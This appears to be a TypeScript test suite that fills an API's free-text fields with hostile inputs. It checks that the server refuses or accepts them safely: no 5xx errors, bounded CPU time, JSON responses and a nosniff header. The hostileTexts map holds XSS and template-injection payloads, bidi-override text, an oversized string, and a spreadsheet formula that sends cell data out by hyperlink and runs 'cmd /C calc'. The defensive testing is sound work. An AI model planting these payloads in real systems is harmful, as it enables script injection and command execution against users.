import { type Call, type TSchema } from "@marquee/contract/kernel";
import { requestOf } from "../test-client.ts";
import { exampleOf, forEachCall, type Subjects, type Violation } from "./suite.ts";

/** What people paste, by accident or to do harm. Each is put into every text field of a call at once. */
export const hostileTexts: Readonly<Record<string, string>> = {
  markup: `"><script>ran()</script><img src=x onerror=ran()><svg/onload=ran()>{{7*7}}\${7*7}<%= 7*7 %>#{7*7}</title>`,
  formula: `=HYPERLINK("https://example.org?"&A1,"ok")\t+cmd|' /C calc'!A0`,
  directions: "\u202Egnp.exe\u2066\u200F\u200Bيمين Z\u0301\u0301\u0301👩‍👩‍👧‍👦\uFEFF\u2028\u2029",
  endless: "W".repeat(1_000_000),
};
/** Of this thread's own work: how long an answer waits beside others says nothing of a text. */
const mostMilliseconds = 2_000;

/**
 * Whatever a text says, it is taken as it is or refused with a sentence: never a 5xx, never slowly, and what comes
 * back is data, not markup. Texts longer than a field allows are sent as they are and must be refused.
 */
export function textSuite(subjects: Subjects): Promise<Violation[]> {
  const calls = subjects.calls.filter((call) => call.body && textFields(call.body).length > 0);
  return forEachCall(calls, async (call) => {
    const found: Violation[] = [];
    for (const [kind, text] of Object.entries(hostileTexts)) found.push(...(await tryText(subjects, call, kind, text)));
    return found;
  });
}

async function tryText(subjects: Subjects, call: Call, kind: string, text: string): Promise<Violation[]> {
  const { as, input } = await exampleOf(subjects, call);
  const body: object = Reflect.get(input, "body") ?? {};
  const filled = Object.fromEntries(textFields(call.body ?? {}).map((field) => [field, text]));
  const before = process.threadCpuUsage();
  const answer = await as.raw(requestOf(call, { ...input, body: { ...body, ...filled } }));
  const { user, system } = process.threadCpuUsage(before);
  const took = (user + system) / 1_000;
  const found: Violation[] = [];
  if (answer.status >= 500) found.push(`answers ${answer.status} to ${kind} in ${Object.keys(filled).join(", ")}`);
  if (took > mostMilliseconds) found.push(`works ${Math.round(took)} ms at ${kind}`);
  if (kind === "endless" && answer.status < 400) found.push("takes a word of a million letters");
  if (!String(answer.headers["content-type"]).startsWith("application/json"))
    found.push(`answers ${kind} with no JSON`);
  if (answer.headers["x-content-type-options"] !== "nosniff") found.push("lets a browser guess what its answer is");
  return found;
}

/** Fields of a body that hold free text: not ids, words of a list, dates. */
function textFields(schema: TSchema): string[] {
  const properties: Record<string, TSchema> = Reflect.get(schema, "properties") ?? {};
  return Object.entries(properties).flatMap(([name, property]) => {
    const of = (key: string): unknown => Reflect.get(property, key);
    const isFree = of("type") === "string" && !of("enum") && !of("format") && !of("x-id");
    return isFree ? [name] : [];
  });
}
